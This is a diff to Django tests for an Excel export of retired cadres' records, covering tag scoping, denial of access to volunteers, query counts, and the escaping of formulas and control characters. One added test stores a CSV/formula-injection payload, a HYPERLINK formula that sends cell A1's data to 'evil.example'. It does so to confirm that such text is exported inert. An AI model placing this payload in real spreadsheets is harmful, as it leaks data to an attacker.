@@ -10,7 +10,7 @@ import time_machine
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from jiujin.audit.models import AuditEvent
+from jiujin.audit.models import AuditAction, AuditEvent
 from jiujin.cadres.models import Tag, WorkUnit
 from jiujin.cadres.tests.factories import CadreFactory
 from jiujin.roster.services import EXPORT_COLUMNS
@@ -40,7 +40,7 @@ def test_it_exports_a_taizhang(client_for: Any, cast: Any, cadre_a: Any) -> None
     cadre_a.retirement_date = date(1998, 6, 1)
     cadre_a.work_unit = WorkUnit.objects.create(name="黄州区财政局")
     cadre_a.save()
-    cadre_a.tags.add(Tag.objects.create(name="书法"))
+    cadre_a.tags.add(Tag.objects.create(name="书法", org_unit=cadre_a.community.parent.parent))
     response = client_for(cast.community_a).get(EXPORT)
     ws = sheet(response)
 
@@ -86,8 +86,8 @@ def test_it_exports_nothing_out_of_scope(client_for: Any, cast: Any, cadre_a: An
 
 
 def test_it_forbids_volunteers(client_for: Any, cast: Any, cadre_a: Any) -> None:
-    assert client_for(cast.volunteer).get(EXPORT).status_code == 403
-    assert not AuditEvent.objects.exists()
+    assert client_for(cast.volunteer).get(EXPORT).status_code == 404
+    assert not AuditEvent.objects.exclude(action=AuditAction.DENIED).exists()
 
 
 def test_it_masks_for_roles_without_view_sensitive(client_for: Any, cast: Any, cadre_a: Any) -> None:
@@ -104,7 +104,7 @@ def test_it_keeps_the_query_count_flat(
     client_for: Any, cast: Any, tree: Any, django_assert_max_num_queries: Any
 ) -> None:
     client = client_for(cast.community_a)
-    tag = Tag.objects.create(name="象棋")
+    tag = Tag.objects.create(name="象棋", org_unit=tree.district)
     for total in (3, 30):
         for cadre in CadreFactory.create_batch(
             total - Tag.objects.get().cadres.count(), community=tree.community_a
@@ -112,3 +112,20 @@ def test_it_keeps_the_query_count_flat(
             cadre.tags.add(tag)
         with django_assert_max_num_queries(12):
             assert len(rows(sheet(client.get(EXPORT)))) == total
+
+
+def test_it_exports_formula_like_text_as_text(client_for: Any, cast: Any, cadre_a: Any) -> None:
+    cadre_a.address = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    cadre_a.habits = "@SUM(1+1)"
+    cadre_a.save()
+    ws = sheet(client_for(cast.community_a).get(EXPORT))
+    for header, expected in (("家庭住址", cadre_a.address), ("生活习惯", "@SUM(1+1)")):
+        cell = ws.cell(row=3, column=HEADERS.index(header) + 1)
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True)
+
+
+def test_it_exports_old_data_holding_control_characters(client_for: Any, cast: Any, cadre_a: Any) -> None:
+    cadre_a.address = "东湖路\x011号\x0b"
+    cadre_a.save()
+    [row] = rows(sheet(client_for(cast.community_a).get(EXPORT)))
+    assert row["家庭住址"] == "东湖路1号"
